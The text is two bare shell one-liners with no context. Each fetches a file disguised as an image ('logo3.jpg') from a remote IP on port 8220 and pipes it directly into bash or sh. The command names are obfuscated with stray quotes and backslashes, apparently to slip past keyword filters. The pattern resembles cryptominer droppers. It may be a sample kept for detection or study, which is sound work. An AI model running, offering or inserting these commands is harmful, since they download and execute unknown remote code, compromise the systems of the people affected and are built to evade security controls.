cu''rl -s http://198.51.100.7:8220/logo3.jpg | b"a"sh
c\url http://198.51.100.7:8220/logo3.jpg2 | s\h
